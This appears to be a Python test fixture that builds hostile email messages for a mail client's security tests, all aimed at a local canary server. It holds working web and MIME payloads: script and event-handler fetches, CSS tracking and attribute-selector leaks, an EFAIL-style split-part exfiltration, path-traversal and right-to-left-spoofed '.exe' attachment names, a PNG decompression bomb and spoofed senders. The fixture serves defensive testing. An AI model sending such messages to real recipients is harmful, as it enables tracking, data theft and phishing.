"""Hostile messages of the security plan's group D, built around a canary URL.

Each entry is ``(plan case, description, raw bytes)``. The messages are written here from the
plan's descriptions (nothing is copied from the corpus); every URL points at the canary
server, so any request they manage to make is counted.
"""

from __future__ import annotations

import base64
import struct
import zlib

SECRET = "SECRET-CANARY-7f3a"


def _mime(parts: list[tuple[str, bytes]], subtype: str = "mixed", headers: str = "") -> bytes:
    body = b"".join(
        b"--B\r\n" + ctype.encode() + b"\r\n\r\n" + content + b"\r\n" for ctype, content in parts
    )
    head = (
        "From: attacker@evil.example\r\nTo: victim@example.org\r\nSubject: hostile\r\n"
        + headers
        + f"Content-Type: multipart/{subtype}; boundary=B\r\n\r\n"
    )
    return head.encode() + body + b"--B--\r\n"


def _html(markup: str, headers: str = "") -> bytes:
    return (
        "From: attacker@evil.example\r\nSubject: hostile html\r\n" + headers
        + "Content-Type: text/html; charset=utf-8\r\n\r\n" + markup
    ).encode()  # fmt: skip


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` (a decompression bomb's first bytes)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat)


def tiny_png() -> bytes:
    raw = b"\x00\xff\x00\x00"  # one red pixel, filter byte 0
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )  # fmt: skip


def _attachment(name: str, content: bytes = b"x") -> tuple[str, bytes]:
    return (
        "Content-Type: application/octet-stream\r\n"
        f'Content-Disposition: attachment; filename="{name}"',
        content,
    )


def _nested(depth: int, inner: str) -> bytes:
    opening = b"".join(
        b"Content-Type: multipart/mixed; boundary=n%d\n\n--n%d\n" % (i, i) for i in range(depth)
    )
    return opening + f"Content-Type: text/html\n\n{inner}\n".encode()


def group_d(canary: str) -> list[tuple[str, str, bytes]]:
    """Every hostile message of plan D30-D38 aimed at ``canary`` (``http://127.0.0.1:PORT/``)."""
    c = canary
    host = c.split("//", 1)[1].rstrip("/")
    bomb = base64.b64encode(png_header(30000, 30000))
    windows_names = ["CON.txt", "nul", "COM1.pdf", "CONIN$", "report.pdf. . .", "a:stream"]
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("{c}cidsvg")</script>'
        f'<image href="{c}cidsvgimg"/></svg>'
    )
    sibling = ("Content-Type: text/html", f'<img src="{c}s">'.encode())
    spoofed = 'From: "a@bank.example" <e@attacker.example>\r\n'
    cid_html = f"<script>fetch('{c}h')</script>".encode()
    return [
        ("D30", "deep nesting", _nested(2000, f'<img src="{c}deep.gif">')),
        ("D30", "many siblings", _mime([sibling] * 3000)),
        ("D31", "spoofed from", _html("<p>hi</p>", spoofed)),
        ("D32", "utf-7 html", b"Content-Type: text/html; charset=utf-7\r\n\r\n"
                              b"+ADw-img src+AD0-" + c.encode() + b"u7.gif+AD4-"),
        ("D32", "x-unknown", b"Content-Type: text/html; charset=x-unknown\r\n\r\n"
                             b'<img src="' + c.encode() + b'xu.gif">\xff\x00'),
        ("D33", "traversal names", _mime([("Content-Type: text/plain", b"see"),
                                          _attachment("../../.bashrc")])),
        ("D34", "windows names", _mime([("Content-Type: text/plain", b"names")]
                                       + [_attachment(n) for n in windows_names]
                                       + [_attachment("x" * 300)])),
        ("D35", "bidi name", _mime([("Content-Type: text/plain", b"invoice"),
                                    _attachment("invoice\u202efdp.exe", b"MZ")])),
        ("D36", "script", _html(f"<script>new Image().src='{c}js'</script>"
                                f"<p onload=\"fetch('{c}on')\">x</p>")),
        ("D36", "handlers", _html(f"<img src=x onerror=\"this.src='{c}err'\">"
                                  f"<body onload=\"location='{c}b'\">")),
        ("D36", "javascript link", _html(f"<a href=\"javascript:location='{c}jl'\">click</a>")),
        ("D36", "iframe", _html(f'<iframe src="{c}frame"></iframe>')),
        ("D36", "object embed", _html(f'<object data="{c}obj"></object><embed src="{c}emb">')),
        ("D36", "meta refresh", _html(f'<meta http-equiv=refresh content="0;url={c}refresh">')),
        ("D36", "svg script", _html(f'<svg><script>fetch("{c}svg")</script>'
                                    f'<image href="{c}svgimg"/></svg>')),
        ("D36", "form autosubmit", _html(
            f'<form id=f action="{c}form" method=post><input name=a value=1></form>'
            "<script>document.getElementById('f').submit()</script>")),
        ("D37", "img", _html(f'<img src="{c}p.gif">')),
        ("D37", "srcset", _html(f'<img srcset="{c}a.png 1x, {c}b.png 2x">')),
        ("D37", "protocol relative", _html(f'<img src="//{host}/pr.gif">')),
        ("D37", "link stylesheet", _html(f'<link rel=stylesheet href="{c}s.css"><p>x</p>')),
        ("D37", "import", _html(f"<style>@import url({c}i.css);</style><p>x</p>")),
        ("D37", "background", _html(f'<div style="background:url({c}bg)">x</div>'
                                    f'<table background="{c}tb"><tr><td>x</td></tr></table>')),
        ("D37", "font face", _html(f"<style>@font-face{{font-family:x;src:url({c}f.woff)}}"
                                   '</style><p style="font-family:x">x</p>')),
        ("D37", "attribute selector", _html("<style>input[value^=a]"
                                            f"{{background:url({c}?a)}}</style><input value=ab>")),
        ("D37", "base", _html(f'<base href="{c}"><img src="rel.gif"><a href="rel">r</a>')),
        ("D37", "video poster", _html(f'<video poster="{c}poster.png"></video>')),
        ("D38", "efail", _mime([
            ("Content-Type: text/html", f'<img src="{c}?'.encode()),
            ("Content-Type: text/plain", SECRET.encode()),
            ("Content-Type: text/html", b'">'),
        ])),
        ("D38", "cid tricks", _mime([
            ("Content-Type: text/html", b'<img src="cid:x"><img src="cid:svg">'
             b'<img src="cid:missing"><img src="cid:../../etc/passwd"><img src="cid:bomb">'),
            ("Content-Type: text/html\r\nContent-ID: <x>", cid_html),
            ("Content-Type: image/svg+xml\r\nContent-ID: <svg>", svg.encode()),
            ("Content-Type: image/png\r\nContent-ID: <bomb>\r\n"
             "Content-Transfer-Encoding: base64", bomb),
        ], subtype="related")),
    ]  # fmt: skip
